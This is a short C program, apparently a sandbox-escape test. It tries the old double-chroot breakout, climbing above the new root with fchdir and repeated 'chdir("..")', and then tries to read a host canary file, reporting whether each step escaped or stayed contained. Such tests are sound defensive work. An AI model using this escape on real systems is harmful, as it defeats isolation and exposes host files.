#include "attack.h"

// The old way out: a second chroot leaves the working directory above the new root.
int main(void) {
    mkdir("deeper", 0755);
    int up = open(".", O_RDONLY | O_DIRECTORY);
    if (chroot("deeper") == 0) {
        escaped("chroot");
        fchdir(up);
        for (int i = 0; i < 64; i++) chdir("..");
        chroot(".");
    } else {
        contained("chroot");
    }
    for (int i = 0; i < 64; i++) chdir("..");
    struct stat here, root;
    stat(".", &here);
    stat("/", &root);
    if (here.st_ino == root.st_ino && here.st_dev == root.st_dev) contained("64 times ..");
    else escaped("above the root");
    if (open(host("HOST_CANARY") + 1, O_RDONLY) < 0) contained("the canary from the top");
    else escaped("the canary from the top");
}
